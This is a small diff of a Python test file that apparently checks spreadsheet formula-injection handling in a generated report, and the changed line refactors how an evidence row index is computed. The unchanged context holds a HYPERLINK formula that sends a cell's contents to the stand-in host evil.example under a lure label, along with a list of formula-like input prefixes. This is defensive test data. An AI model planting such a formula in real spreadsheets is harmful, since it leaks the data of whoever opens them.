@@ -35,7 +35,7 @@ from tests.fixtures.wust import wust_report
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?"&A1,"点击查看佐证材料")'
 FORMULA_LIKE = ["=1+1", HYPERLINK, " =1+1", "\t=1+1", "\r=1+1", "+1+1", "-1+1", "@SUM(A1)", "#N/A"]
-EVIDENCE_ROW = v.FIRST_ITEM_ROW + [item.id for item in RULEBOOK.items].index("3.1")
+EVIDENCE_ROW = v.item_row([item.id for item in RULEBOOK.items].index("3.1"))
 EVIDENCE_COLUMN = 5  # 佐证材料
 
 
